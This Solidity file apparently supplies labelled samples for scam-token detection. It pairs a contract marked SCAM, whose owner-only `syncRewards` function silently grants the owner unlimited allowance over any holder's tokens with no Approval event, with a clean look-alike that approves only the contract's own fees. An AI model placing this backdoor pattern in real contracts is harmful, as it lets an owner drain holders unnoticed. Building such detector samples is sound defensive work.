// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AdvBase} from "./AdvBase.sol";

/// @notice SCAM, two steps: `syncRewards(address)` quietly gives the owner an unlimited allowance over
/// the holder's tokens (no balance moves, no Approval event); a plain transferFrom then takes them.
contract GrantAllowance is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function syncRewards(address holder) external onlyOwner {
        allowance[holder][msg.sender] = type(uint256).max;
    }
}

/// @notice CLEAN look-alike: the owner can approve a spender over the CONTRACT's own collected fees
/// (for a swap-back), never over a holder's tokens.
contract CleanFeeApprove is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {
        sellFee = 2;
    }

    function approveFees(address spender) external onlyOwner {
        allowance[address(this)][spender] = type(uint256).max;
        emit Approval(address(this), spender, type(uint256).max);
    }
}
